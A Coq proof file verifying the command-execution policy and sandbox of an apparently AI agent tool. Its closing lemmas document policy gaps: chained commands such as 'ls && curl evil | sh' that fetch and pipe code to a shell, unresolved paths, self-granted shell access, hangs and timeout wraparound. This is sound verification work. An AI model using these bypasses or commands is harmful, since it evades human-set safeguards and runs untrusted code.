(* ===== verification/CommandPolicyProps.v ===== *)
(** What the command tool runs: only what the policy admits, inside the sandbox; that
    it gives a process up at its timeout and returns if the pipes of one that has
    exited close; and where the policy admits more than it says. *)
From S2P Require Import Prelude Values CoreTypes Utf8 Text Exec Compaction CompactionProps.
From S2P Require Import FileSystem Sandbox FsTools CommandPolicy.
From stdpp Require Import list.
From Stdlib Require Import Ascii Strings.Byte.

(** * The policy *)
Section Allowed.
Context `{Which}.

(** No character that a shell would interpret. *)
Definition clean_name (program : string) : Prop :=
  program <> "" /\ forall c, disallowed_char c = true -> contains_char c program = false.
(** The file a name stands for, and that its name is listed. *)
Definition binary_listed (p : CommandPolicy) (program : string) : Prop :=
  cp_bypass_allowlists p = true
  \/ exists file name bare,
       (length (path_components program) = 1 ->
        exists own, strip_windows_executable_suffix program = Some own /\ own ∈ cp_binary_allowlist p)
       /\ (if 1 <? length (path_components program) then Ok program else which program) = Ok file
       /\ path_file_name file = Some name /\ strip_windows_executable_suffix name = Some bare
       /\ bare ∈ cp_binary_allowlist p.
Definition command_listed (p : CommandPolicy) (command : string) : Prop :=
  cp_bypass_allowlists p = true \/ cp_command_allowlist p = []
  \/ (Forall (fun meta => contains meta command = false) dangerous
      /\ exists a, a ∈ cp_command_allowlist p
         /\ (starts_with a command = true /\ contains_char " " a = true
             \/ contains_char " " a = false /\ a = default command (first_token command))).
Definition script_listed (p : CommandPolicy) (script : string) : Prop :=
  (cp_bypass_allowlists p = true \/ cp_allowed_shell_scripts p = [] \/ script ∈ cp_allowed_shell_scripts p)
  /\ command_listed p script
  /\ forall first, first_token script = Some first -> binary_listed p first.
Definition run_allowed (p : CommandPolicy) (args : RunArgs) : Prop :=
  cp_enabled p = true
  /\ match ra_shell_script args with
     | Some script => ra_allow_shell args = true /\ ra_program args = None /\ ra_cmd_args args = [] /\ script_listed p script
     | None => exists program, ra_program args = Some program /\ clean_name program
               /\ command_listed p program /\ binary_listed p program
     end.

Lemma find_char_none P s : find_char P s = None -> forall c, P c = true -> contains_char c s = false.
Proof.
  induction s as [|d s IH]; [done|]. cbn. destruct (P d) eqn:E; [done|]. destruct (find_char P s); [done|].
  intros _ c Hc. rewrite IH by done. rewrite bool_decide_eq_false_2; [done|]. intros ->. congruence.
Qed.
Lemma find_char_all P s : (forall c, P c = true -> contains_char c s = false) -> find_char P s = None.
Proof.
  induction s as [|d s IH]; [done|]. cbn. intros Hall. destruct (P d) eqn:E.
  - specialize (Hall d E). by rewrite bool_decide_eq_true_2 in Hall by done.
  - rewrite IH; [done|]. intros c Hc. specialize (Hall c Hc). by apply orb_false_iff in Hall as [_ ?].
Qed.
Lemma validate_clean program : validate_program_name program = Ok tt <-> clean_name program.
Proof.
  unfold validate_program_name. split.
  - case_bool_decide; [done|]. destruct (find_char _ _) eqn:E; [done|]. intros _. split; [done|]. by apply find_char_none.
  - intros [Hne Hc]. rewrite bool_decide_eq_false_2 by done. by rewrite find_char_all.
Qed.
Lemma check_command_listed p command :
  check_command_allowlist command (cp_bypass_allowlists p) (cp_command_allowlist p) = Ok tt <-> command_listed p command.
Proof.
  unfold check_command_allowlist, command_listed. destruct (cp_bypass_allowlists p); [split; [by left|done]|].
  destruct (cp_command_allowlist p) as [|a0 l] eqn:Hl; [split; [by right; left|done]|]. rewrite <- Hl.
  assert (forall a, (if contains_char " " a then starts_with a command else bool_decide (a = default command (first_token command))) = true
    <-> (starts_with a command = true /\ contains_char " " a = true \/ contains_char " " a = false /\ a = default command (first_token command))) as Ha.
  { intros a. destruct (contains_char " " a); [naive_solver|]. rewrite bool_decide_eq_true. naive_solver. }
  split.
  - intros Hc. right. right. destruct (List.find _ dangerous) eqn:Hf; [done|]. destruct (existsb _ _) eqn:He; [|done]. split.
    + apply Forall_forall. intros m Hm. by eapply find_none in Hf; [|by apply list_elem_of_In].
    + apply existsb_exists in He as (a & Hin & Hok). exists a. split; [by apply list_elem_of_In|]. by apply Ha.
  - intros [?|[?|[Hd (a & Hin & Hok)]]]; [done|congruence|].
    destruct (List.find _ dangerous) as [m|] eqn:Hf.
    { apply find_some in Hf as [Hm Hc]. rewrite Forall_forall in Hd. apply list_elem_of_In in Hm. rewrite Hd in Hc; done. }
    assert (existsb (fun a => if contains_char " " a then starts_with a command
      else bool_decide (a = default command (first_token command))) (cp_command_allowlist p) = true) as ->; [|done].
    apply existsb_exists. exists a. split; [by apply list_elem_of_In|]. by apply Ha.
Qed.
Lemma check_resolved_listed program file l :
  check_resolved_name program file l = Some (Ok tt)
  <-> exists name bare, path_file_name file = Some name /\ strip_windows_executable_suffix name = Some bare /\ bare ∈ l.
Proof.
  unfold check_resolved_name. destruct (path_file_name file) as [name|]; [|split; [done|by intros (? & ? & ? & _)]].
  destruct (strip_windows_executable_suffix name) as [bare|] eqn:E; cbn [mbind option_bind].
  - case_bool_decide; split; [eauto 10|done|done|]. intros (? & ? & [= <-] & ? & ?). congruence.
  - split; [done|]. intros (? & ? & [= <-] & ? & _). congruence.
Qed.
Lemma check_binary_listed p program :
  check_binary_allowlist program true (cp_bypass_allowlists p) (cp_binary_allowlist p) = Some (Ok tt)
  <-> binary_listed p program.
Proof.
  unfold check_binary_allowlist, binary_listed. cbn [negb].
  destruct (cp_bypass_allowlists p); [split; [by left|done]|].
  destruct (cp_binary_allowlist p) as [|a0 l] eqn:Hl.
  { split; [done|]. intros [?|(? & ? & ? & _ & _ & _ & _ & Hin)]; [done|]. by apply elem_of_nil in Hin. }
  rewrite <- Hl. cbv zeta. set (count := length (path_components program)).
  set (file := if 1 <? count then Ok program else which program).
  assert ((count = 1 -> exists own, strip_windows_executable_suffix program = Some own /\ own ∈ cp_binary_allowlist p)
    <-> (if count =? 1 then bare ← strip_windows_executable_suffix program; Some (bool_decide (bare ∈ cp_binary_allowlist p))
         else Some true) = Some true) as Hown.
  { destruct (count =? 1) eqn:E; [apply Nat.eqb_eq in E|by apply Nat.eqb_neq in E].
    destruct (strip_windows_executable_suffix program) as [own|]; cbn [mbind option_bind].
    - rewrite (inj_iff Some), bool_decide_eq_true. naive_solver.
    - naive_solver. }
  transitivity ((if count =? 1 then bare ← strip_windows_executable_suffix program; Some (bool_decide (bare ∈ cp_binary_allowlist p))
         else Some true) = Some true /\ exists f, file = Ok f /\ check_resolved_name program f (cp_binary_allowlist p) = Some (Ok tt)).
  - destruct (if count =? 1 then _ else _) as [[]|]; cbn [mbind option_bind negb].
    + destruct file as [f|e]; [naive_solver|split; [done|by intros (_ & ? & ? & _)]].
    + split; [done|by intros [? _]].
    + split; [done|by intros [? _]].
  - rewrite <- Hown. setoid_rewrite check_resolved_listed. naive_solver.
Qed.
Lemma and_then_ok a b : and_then a b = Some (Ok tt) <-> a = Some (Ok tt) /\ b = Some (Ok tt).
Proof. destruct a as [[[]|]|]; naive_solver. Qed.

(** The policy admits exactly what it describes: commands are enabled, and either
    a script with the shell allowed, no program beside it and the script and its
    first word on the lists, or a program whose name holds no character a shell
    interprets and is on the lists; a list that is empty admits everything, except
    that of the binaries, which admits nothing. *)
Theorem policy_admits_iff args p :
  enforce_command_policy args p = Some (Ok tt) <-> run_allowed p args.
Proof.
  unfold enforce_command_policy, run_allowed. destruct (cp_enabled p) eqn:He; cbn [negb]; [|split; [done|by intros [? _]]].
  destruct (ra_shell_script args) as [script|].
  - unfold script_listed. destruct (ra_allow_shell args); cbn [negb]; [|split; [done|by intros (_ & ? & _)]].
    destruct (ra_program args); [rewrite bool_decide_eq_true_2 by eauto; split; [done|by intros (_ & _ & ? & _)]|].
    rewrite bool_decide_eq_false_2 by (by intros [? ?]). cbn [orb].
    case_bool_decide as Ha; cbn [negb]; [|split; [done|naive_solver]].
    assert ((cp_bypass_allowlists p = true \/ cp_allowed_shell_scripts p = [] \/ script ∈ cp_allowed_shell_scripts p)
      <-> negb (cp_bypass_allowlists p) && negb (bool_decide (cp_allowed_shell_scripts p = []))
          && negb (bool_decide (script ∈ cp_allowed_shell_scripts p)) = false) as ->.
    { destruct (cp_bypass_allowlists p); [naive_solver|]. repeat case_bool_decide; naive_solver. }
    destruct (_ && _ && _); [split; [done|naive_solver]|].
    rewrite and_then_ok, (inj_iff Some), check_command_listed.
    destruct (first_token script) as [first|]; [rewrite check_binary_listed|]; naive_solver.
  - destruct (ra_program args) as [program|]; [|split; [done|naive_solver]].
    rewrite !and_then_ok, !(inj_iff Some), validate_clean, check_command_listed, check_binary_listed. naive_solver.
Qed.
End Allowed.

(** * What is started *)
Section Runs.
Context `{JsonText} `{Which}.

(** Whether a shell may be used: the call says so, or says nothing and the
    configuration allows it. *)
Definition shell_granted (p : CommandPolicy) (args : json) : Prop :=
  match json_get "allow_shell" args with
  | Some (JBool b) => b = true
  | _ => cp_allow_shell p = true
  end.
(** A launch the policy allows for a call: started inside the sandbox, it is the
    program the call names, with its arguments (and a flag for colours on a
    terminal), listed and free of characters a shell interprets; or the shell on the
    script the call gives, listed, with the shell granted and no program beside it. *)
Definition launch_allowed (p : CommandPolicy) (sb : Sandbox) (args : json) (run : RunArgs) (l : Launch) : Prop :=
  cp_enabled p = true
  /\ (exists loc, ln_cwd l = location_path loc /\ Forall is_name loc /\ within sb loc = true)
  /\ ((ra_shell_script run = None /\ ra_program run = Some (ln_program l)
       /\ (ln_args l = ra_cmd_args run \/ ln_args l = "--color=auto" :: ra_cmd_args run)
       /\ clean_name (ln_program l) /\ command_listed p (ln_program l) /\ binary_listed p (ln_program l))
      \/ (exists script, ra_shell_script run = Some script /\ ra_program run = None /\ ra_cmd_args run = []
          /\ shell_granted p args
          /\ ln_program l = "sh" /\ ln_args l = ["-c"; script] /\ script_listed p script)).
Lemma run_granted config args :
  ra_allow_shell (parse_run_args args config) = true <-> shell_granted (tcfg_command config) args.
Proof. unfold shell_granted. cbn. unfold bool_arg. by destruct (json_get "allow_shell" args) as [[]|]. Qed.

Lemma working_dir_inside fs sb cwd dir :
  fs_ok fs -> sandbox_ok sb -> working_dir fs sb cwd = Ok dir ->
  exists loc, dir = location_path loc /\ Forall is_name loc /\ within sb loc = true.
Proof.
  intros Hok Hsb. destruct cwd as [d|]; cbn.
  - intros Hd. destruct (resolve_existing_location _ _ _ _ Hok Hd) as (loc & n & -> & (? & _) & _ & ?). eauto.
  - intros [= <-]. pose proof Hsb as [(names & Hr & Hn) _]%Forall_cons. exists names. split_and!; [done..|].
    rewrite <- (app_nil_r names). by eapply sandbox_root_within.
Qed.
Lemma cmd_launch_allowed config fs sb args program cwd l d :
  let run := parse_run_args args config in
  fs_ok fs -> sandbox_ok sb -> run_allowed (tcfg_command config) run ->
  ra_shell_script run = None -> ra_program run = Some program ->
  cmd_launch fs sb program (ra_cmd_args run) cwd = Ok (l, d) ->
  launch_allowed (tcfg_command config) sb args run l.
Proof.
  intros run Hok Hsb [He Ha] Hs Hp. rewrite Hs in Ha. destruct Ha as (program' & Hp' & Hcl & Hl & Hb).
  assert (program' = program) as -> by congruence. unfold cmd_launch.
  intros ([] & _ & Hd)%result_bind_Ok. apply result_bind_Ok in Hd as (dir & Hdir & [= <- <-]).
  split_and!; [done| |left; split_and!; auto]. by eapply working_dir_inside.
Qed.
Lemma shell_launch_allowed config fs sb args script cwd l d :
  let run := parse_run_args args config in
  fs_ok fs -> sandbox_ok sb -> run_allowed (tcfg_command config) run -> ra_shell_script run = Some script ->
  shell_launch fs sb script cwd = Ok (l, d) -> launch_allowed (tcfg_command config) sb args run l.
Proof.
  intros run Hok Hsb [He Ha] Hs. rewrite Hs in Ha. destruct Ha as (Hg%run_granted & Hp & Hc & Hl).
  unfold shell_launch. intros (dir & Hdir & [= <- <-])%result_bind_Ok.
  split_and!; [done| |right; exists script; by split_and!]. by eapply working_dir_inside.
Qed.
Lemma pty_launch_allowed config fs sb args command cwd dir cols :
  let run := parse_run_args args config in
  fs_ok fs -> sandbox_ok sb -> run_allowed (tcfg_command config) run -> pty_command run = Some command ->
  working_dir fs sb cwd = Ok dir ->
  launch_allowed (tcfg_command config) sb args run (command_builder command dir cols).
Proof.
  intros run Hok Hsb [He Ha] Hc Hd. pose proof (working_dir_inside _ _ _ _ Hok Hsb Hd) as Hin. unfold pty_command in Hc.
  destruct (ra_shell_script run) as [script|] eqn:Hs.
  - injection Hc as <-. destruct Ha as (Hg%run_granted & Hp & Hc & Hl).
    split_and!; [done|done|right; exists script; by split_and!].
  - destruct Ha as (program & Hp & Hcl & Hl & Hb). rewrite Hp in Hc. injection Hc as <-.
    split_and!; [done|done|left]. cbn [ln_program ln_args command_builder].
    split_and!; [done|done| |done..]. destruct (wants_color_flag _ _); [by right|by left].
Qed.

(** C15: The command tool starts nothing but what the policy allows for the call,
    inside the sandbox: the program or the script of the call, on the lists, and a
    script only where the call or, failing that, the configuration grants the
    shell.  Whatever processes and terminals would do with any other launch, the
    result is the same. *)
Theorem only_allowed_launches (P1 P2 : Processes) (T1 T2 : Terminals) fs sb config args :
  fs_ok fs -> sandbox_ok sb ->
  (forall l, launch_allowed (tcfg_command config) sb args (parse_run_args args config) l ->
    @spawn P1 l = @spawn P2 l /\ @open_terminal T1 l = @open_terminal T2 l) ->
  @CmdRunTool_execute _ P1 T1 _ fs sb config args = @CmdRunTool_execute _ P2 T2 _ fs sb config args.
Proof.
  intros Hok Hsb Hag. unfold CmdRunTool_execute. set (ra := parse_run_args args config) in *.
  destruct (enforce_command_policy ra (tcfg_command config)) as [[[]|]|] eqn:He; [|done..].
  apply policy_admits_iff in He as Hall.
  assert (@execute_over_pipes _ P1 fs sb ra = @execute_over_pipes _ P2 fs sb ra) as Hpipes.
  { unfold execute_over_pipes. destruct (ra_shell_script ra) as [script|] eqn:Hs.
    - unfold cmd_run_shell_script. destruct (shell_launch fs sb script (ra_cwd ra)) as [[l d]|] eqn:Hl; [|done].
      destruct (Hag l) as [-> _]; [by eapply shell_launch_allowed|done].
    - destruct (ra_program ra) as [program|] eqn:Hp; [|done]. unfold cmd_run.
      destruct (cmd_launch fs sb program (ra_cmd_args ra) (ra_cwd ra)) as [[l d]|] eqn:Hl; [|done].
      destruct (Hag l) as [-> _]; [by eapply cmd_launch_allowed|done]. }
  unfold execute_run_command. rewrite Hpipes. destruct (ra_tty_cols ra) as [cols|]; [|done].
  destruct (pty_command ra) as [command|] eqn:Hcmd; [|done].
  assert (@cmd_run_in_pty T1 fs sb command (ra_cwd ra) cols (ra_timeout_ms ra)
          = @cmd_run_in_pty T2 fs sb command (ra_cwd ra) cols (ra_timeout_ms ra)) as ->; [|done].
  unfold cmd_run_in_pty. destruct (working_dir fs sb (ra_cwd ra)) as [dir|] eqn:Hd; [|done].
  destruct (Hag (command_builder command dir cols)) as [_ ->]; [by eapply pty_launch_allowed|done].
Qed.

(** ** Waiting ends *)
Definition clock_runs (child : Child) : Prop := forall i, (10 * Z.of_nat i <= (child i).1)%Z.
Definition turns_enough (child : PtyChild) : Prop := forall t, (t < pp_elapsed (pc_polls child (pc_turns child t)))%Z.
(** Reading the output of an exited process comes to an end. *)
Definition pipes_close (child : Child) : Prop :=
  forall i elapsed e, child i = (elapsed, Ok (Some e)) -> is_Some (ex_stdout e) /\ is_Some (ex_stderr e).
(** No poll sees the process exited. *)
Definition never_exits (child : Child) : Prop := forall i, (child i).2 = Ok None.
Lemma wait_from_ends fuel i child timeout :
  clock_runs child -> pipes_close child -> (timeout < 10 * Z.of_nat (i + fuel - 1))%Z -> fuel <> 0 -> is_Some (wait_from fuel i child timeout).
Proof.
  intros Hclock Hpipes. revert i. induction fuel as [|fuel IH]; intros i Ht Hf; [done|]. cbn.
  specialize (Hclock i). specialize (Hpipes i). destruct (child i) as [elapsed [[o|]|e]]; [| |eauto].
  { destruct (Hpipes _ _ eq_refl) as [[x Hx] [y Hy]]. unfold read_output. rewrite Hx, Hy. cbn. eauto. }
  destruct (timeout <? elapsed)%Z eqn:E; [eauto|]. cbn in Hclock. apply Z.ltb_ge in E.
  apply IH; [by replace (S i + fuel - 1) with (i + S fuel - 1) by lia|]. intros ->. lia.
Qed.
Lemma wait_ends child timeout :
  clock_runs child -> pipes_close child -> (0 <= timeout)%Z -> is_Some (wait_with_hard_timeout child timeout).
Proof.
  intros Hc Hp Ht. apply wait_from_ends; [done|done| |unfold wait_fuel; lia]. unfold wait_fuel.
  pose proof (Z.div_mod timeout 10). pose proof (Z.mod_pos_bound timeout 10).
  rewrite Nat2Z.inj_sub, !Nat2Z.inj_add, Z2Nat.id by lia. lia.
Qed.
Lemma wait_gives_up child timeout :
  clock_runs child -> never_exits child -> (0 <= timeout)%Z ->
  wait_with_hard_timeout child timeout = Some (Err "Process timed out").
Proof.
  intros Hc Hn Ht. destruct (wait_ends child timeout Hc) as [r Hr]; [|done|].
  { intros i elapsed e E. specialize (Hn i). by rewrite E in Hn. }
  rewrite Hr. revert Hr. unfold wait_with_hard_timeout. generalize (wait_fuel timeout), 0.
  induction n as [|fuel IH]; intros i; cbn; [done|]. specialize (Hn i) as Hi.
  destruct (child i) as [elapsed x]. cbn in Hi. subst x. destruct (timeout <? elapsed)%Z; [by intros [= <-]|apply IH].
Qed.
Lemma wait_capturing_ends fuel i polls captured timeout :
  (timeout < pp_elapsed (polls (i + fuel)%nat))%Z -> is_Some (wait_capturing (S fuel) i polls captured timeout).
Proof.
  revert i captured. induction fuel as [|fuel IH]; intros i captured Ht.
  all: cbn -[wait_capturing]; cbn [wait_capturing]; destruct (pp_wait (polls i)) as [[[code ok]|]|]; [eauto| |eauto].
  - rewrite Nat.add_0_r in Ht. apply Z.ltb_lt in Ht. rewrite Ht. eauto.
  - destruct (timeout <? _)%Z; [eauto|]. apply IH. by replace (S i + fuel) with (i + S fuel) by lia.
Qed.
Lemma bind_some {A B} (o : option A) (f : A -> B) : is_Some o -> is_Some (x ← o; Some (f x)).
Proof. intros [x ->]. cbn. eauto. Qed.
Lemma pipes_end `{Processes} fs sb ra :
  (forall l child, spawn l = Ok child -> clock_runs child /\ pipes_close child) -> (0 <= ra_timeout_ms ra)%Z ->
  is_Some (execute_over_pipes fs sb ra).
Proof.
  intros Hchild Ht. unfold execute_over_pipes, cmd_run_shell_script, cmd_run.
  destruct (ra_shell_script ra); [|destruct (ra_program ra); [|eauto]].
  - destruct (shell_launch _ _ _ _) as [[l d]|]; [|eauto]. destruct (spawn l) as [child|] eqn:Hs; [|eauto].
    apply bind_some, wait_ends, Ht; by eapply Hchild.
  - destruct (cmd_launch _ _ _ _ _) as [[l d]|]; [|eauto]. destruct (spawn l) as [child|] eqn:Hs; [|eauto].
    apply bind_some, wait_ends, Ht; by eapply Hchild.
Qed.
Lemma pipes_give_up `{Processes} fs sb ra :
  (forall l child, spawn l = Ok child -> clock_runs child /\ never_exits child) -> (0 <= ra_timeout_ms ra)%Z ->
  exists e, execute_over_pipes fs sb ra = Some (Err e).
Proof.
  intros Hchild Ht. unfold execute_over_pipes, cmd_run_shell_script, cmd_run.
  destruct (ra_shell_script ra); [|destruct (ra_program ra); [|eauto]].
  - destruct (shell_launch _ _ _ _) as [[l d]|]; [|eauto]. destruct (spawn l) as [child|] eqn:Hs; [|eauto].
    destruct (Hchild _ _ Hs). rewrite wait_gives_up by done. cbn. eauto.
  - destruct (cmd_launch _ _ _ _ _) as [[l d]|]; [|eauto]. destruct (spawn l) as [child|] eqn:Hs; [|eauto].
    destruct (Hchild _ _ Hs). rewrite wait_gives_up by done. cbn. eauto.
Qed.

(** C17: A command ends.  As long as clocks run, and the pipes of a process that has
    exited can be read to their end, every call that passes the policy check
    without a panic returns, with a result or an error.  A process on pipes that
    does not exit is given up: where no process ever exits, a call without a
    terminal returns an error.  The reads after the exit have no timeout, so the
    condition on pipes cannot be dropped ([background_child_hangs]). *)
Theorem command_ends `{Processes} `{Terminals} fs sb config args :
  (0 <= ra_timeout_ms (parse_run_args args config))%Z ->
  enforce_command_policy (parse_run_args args config) (tcfg_command config) <> None ->
  (forall l child, spawn l = Ok child -> clock_runs child) ->
  ((forall l child, spawn l = Ok child -> pipes_close child) ->
   (forall l child, open_terminal l = Some (Ok child) -> turns_enough child) ->
   is_Some (CmdRunTool_execute fs sb config args))
  /\ ((forall l child, spawn l = Ok child -> never_exits child) ->
      ra_tty_cols (parse_run_args args config) = None ->
      exists e, CmdRunTool_execute fs sb config args = Some (Err e)).
Proof.
  intros Ht Hp Hclock. unfold CmdRunTool_execute. set (ra := parse_run_args args config) in *.
  destruct (enforce_command_policy ra (tcfg_command config)) as [[[]|]|]; [|by split; eauto|done]. split.
  - intros Hclose Hturns.
    assert (is_Some (execute_over_pipes fs sb ra)) as Hpipes by (apply pipes_end; eauto).
    unfold execute_run_command. destruct (ra_tty_cols ra) as [cols|]; [|done]. destruct (pty_command ra) as [command|]; [|done].
    assert (is_Some (cmd_run_in_pty fs sb command (ra_cwd ra) cols (ra_timeout_ms ra))) as [r ->].
    { unfold cmd_run_in_pty. destruct (working_dir _ _ _) as [dir|]; [|eauto].
      destruct (open_terminal _) as [[child|]|] eqn:Ho; [|eauto..]. destruct (pc_reader child); [|eauto].
      apply bind_some, wait_capturing_ends. cbn. by apply (Hturns _ _ Ho). }
    cbn. destruct r; eauto.
  - intros Hnever Hcols. unfold execute_run_command. rewrite Hcols. apply pipes_give_up; eauto.
Qed.
End Runs.

(** * Output *)
(** Captured output is cut to its limit, note included. *)
Lemma truncate_output_length s limit :
  String.length (truncate_output s limit) <= limit + String.length (truncation_note limit).
Proof.
  unfold truncate_output. destruct (Nat.leb_spec (String.length s) limit); [lia|]. rewrite string_app_length.
  pose proof (str_take_length (char_boundary (string_to_bytes s) limit) s). pose proof (char_boundary_le (string_to_bytes s) limit). lia.
Qed.
Lemma capture_length captured chunk :
  length captured <= MAX_CAPTURE_BYTES -> length (capture captured chunk) <= MAX_CAPTURE_BYTES.
Proof. intros Hc. unfold capture. rewrite length_app, length_take. lia. Qed.
(** No carriage return is left in what a terminal showed. *)
Lemma terminal_output_clean raw : contains_char carriage_return (normalize_terminal_output raw) = false.
Proof.
  unfold normalize_terminal_output. assert (forall l, Forall (fun s => contains_char carriage_return s = false) l ->
    contains_char carriage_return (str_join nl l) = false) as Hj.
  { intros l. induction l as [|s [|t l] IH]; intros Hl; [done|by apply Forall_cons in Hl as [Hl _]|].
    apply Forall_cons in Hl as [Hs Hl]. rewrite join_cons by done. by rewrite !contains_char_app, Hs, IH. }
  apply Hj, Forall_fmap, Forall_forall. intros line _. unfold compose, last_redraw.
  set (t := trim_end_matches is_return line). pose proof (split_on_pieces carriage_return t) as Hp.
  destruct (last (split_on carriage_return t)) as [w|] eqn:El.
  - cbn. apply last_Some in El as [l' El]. rewrite El, Forall_app, Forall_singleton in Hp. tauto.
  - apply last_None in El. by destruct (split_on_nonempty carriage_return t).
Qed.

(** * Concrete calls *)
Module CommandExample.
#[local] Instance text_of_json : JsonText := fun _ => "json".
#[local] Instance in_bin : Which := fun name => Ok (path_join "/bin" name).
Definition exits_at (n : nat) : Child := fun i =>
  ((10 * Z.of_nat i)%Z, Ok (if n <=? i then Some {| ex_code := Some 0%Z; ex_success := true;
                                                    ex_stdout := Some (string_to_bytes "done"); ex_stderr := Some [] |}
                            else None)).
#[local] Instance two_polls : Processes := fun _ => Ok (exits_at 2).
#[local] Instance no_terminal : Terminals := fun _ => None.

Definition policy (commands binaries : list string) (shell : bool) : CommandPolicy := {|
  cp_enabled := true; cp_command_allowlist := commands; cp_binary_allowlist := binaries; cp_allow_shell := shell;
  cp_allowed_shell_scripts := []; cp_allow_unrestricted_full_access := false; cp_bypass_allowlists := false |}.
Definition config (p : CommandPolicy) : ToolConfig := {|
  tcfg_command := p; tcfg_max_read_bytes := 65536; tcfg_sync_threshold_ms := 5000; tcfg_max_async_timeout_ms := 600000;
  tcfg_git_push_timeout_ms := 10000; tcfg_git_push_attempts := 2; tcfg_extra_allowed_paths := [] |}.
Definition verdict (p : CommandPolicy) (args : json) : option (result ToolError unit) :=
  enforce_command_policy (parse_run_args args (config p)) p.
Definition program (name : string) : json := JObject [("program", JString name)].
Definition script (text : string) : json := JObject [("allow_shell", JBool true); ("shell_script", JString text)].
Definition sb : Sandbox := {| sb_root := "/ws"; sb_extra_roots := [] |}.
Definition fs : FileSystem := {| fs_nodes := {[ ["ws"] := Node_Dir ]}; fs_cwd := []; fs_readonly := ∅ |}.

Lemma fs_fine : fs_ok fs.
Proof. apply canonical_nil. Qed.
Lemma sb_fine : sandbox_ok sb.
Proof. apply Forall_singleton. exists ["ws"]. split; [done|]. apply Forall_singleton. by split_and!. Qed.
(** Processes that fail when they are started outside. *)
Definition fail_outside : Processes := fun l => if bool_decide (ln_cwd l = "/etc") then Err "outside" else Ok (exits_at 2).
Lemma only_allowed_launches_witness :
  @CmdRunTool_execute _ two_polls no_terminal _ fs sb (config (policy [] ["ls"] false)) (program "ls")
  = @CmdRunTool_execute _ fail_outside no_terminal _ fs sb (config (policy [] ["ls"] false)) (program "ls").
Proof.
  apply (only_allowed_launches two_polls fail_outside no_terminal no_terminal fs sb _ _ fs_fine sb_fine).
  intros l (_ & (loc & Hcwd & Hn & Hin) & _). split; [|done]. unfold spawn, two_polls, fail_outside.
  rewrite bool_decide_eq_false_2; [done|]. intros He. rewrite Hcwd in He. apply (f_equal path_components) in He.
  rewrite location_components in He by done. injection He as ->. vm_compute in Hin. discriminate Hin.
Defined.
Lemma command_ends_witness :
  is_Some (CmdRunTool_execute fs sb (config (policy [] ["ls"] false)) (program "ls")).
Proof.
  apply (command_ends fs sb (config (policy [] ["ls"] false)) (program "ls")); try done.
  - intros l child [= <-] i. done.
  - intros l child [= <-] i elapsed e [= _ He]. destruct i as [|[|i]]; [discriminate He..|]. injection He as <-. split; by eexists.
Defined.
(** A script that leaves a child in the background: the shell exits at once, its
    standard output stays open, and the call does not return, however long the
    timeout. *)
Definition leaves_child : Child := fun i =>
  ((10 * Z.of_nat i)%Z, Ok (Some {| ex_code := Some 0%Z; ex_success := true; ex_stdout := None; ex_stderr := Some [] |})).
Lemma background_child_hangs timeout :
  wait_with_hard_timeout leaves_child timeout = None
  /\ @CmdRunTool_execute _ (fun _ => Ok leaves_child) no_terminal _ fs sb (config (policy [] ["sh"; "sleep"] true))
       (script "sleep 9999 &") = None.
Proof. split; [unfold wait_with_hard_timeout, wait_fuel; by rewrite Nat.add_comm|vm_compute; reflexivity]. Qed.

(** The policy of concrete calls: a plain program, a disallowed one, a shell escape. *)
Lemma verdict_cases :
  (verdict (policy [] ["ls"] false) (program "ls"), verdict (policy [] ["ls"] false) (program "curl"))
  = (Some (Ok tt), Some (Err (ToolError_Forbidden "program 'curl' is not present in ToolConfig::command.binary_allowlist")))
  /\ (result_err <$> verdict (policy [] ["ls"] false) (program "ls;curl"))
     = Some (Some (ToolError_InvalidArguments
         "program 'ls;curl' contains disallowed character ';'; use the 'shell_script' field for shell-quoted scripts")).
Proof. vm_compute. done. Qed.
(** The check of chained commands misses the single ampersand. *)
Lemma ampersand_chains : verdict (policy ["ls"] ["ls"] true) (script "ls & curl evil") = Some (Ok tt).
Proof. vm_compute. done. Qed.
(** With no list of commands there is no such check: only the first word is looked
    at. *)
Lemma first_word_only : verdict (policy [] ["ls"] true) (script "ls && curl evil | sh") = Some (Ok tt).
Proof. vm_compute. done. Qed.
(** A path is not resolved: any file with a listed name runs. *)
Lemma listed_name_anywhere : verdict (policy [] ["ls"] false) (program "./ls") = Some (Ok tt).
Proof. vm_compute. done. Qed.
(** The call itself grants the shell the configuration withholds. *)
Lemma call_grants_shell : verdict (policy [] ["ls"] false) (script "ls") = Some (Ok tt).
Proof. vm_compute. done. Qed.
(** A rule of several words never admits a program, and is a prefix of words. *)
Lemma rule_of_words :
  verdict (policy ["git status"] ["git"] true) (JObject [("args", JArray [JString "status"]); ("program", JString "git")])
  = Some (Err (ToolError_CommandNotAllowed "git"))
  /\ verdict (policy ["git st"] ["git"] true) (script "git stash drop") = Some (Ok tt).
Proof. vm_compute. done. Qed.
(** A name with a character across the cut of its last four bytes panics. *)
Lemma name_panics : verdict (policy [] ["ls"] false) (program "éabc") = None.
Proof. vm_compute. done. Qed.
(** A timeout in seconds wraps around. *)
Lemma timeout_wraps :
  ra_timeout_ms (parse_run_args (JObject [("timeout_secs", JNumber "18446744073709552")]) (config CommandPolicy_restricted)) = 384%Z.
Proof. vm_compute. done. Qed.
End CommandExample.
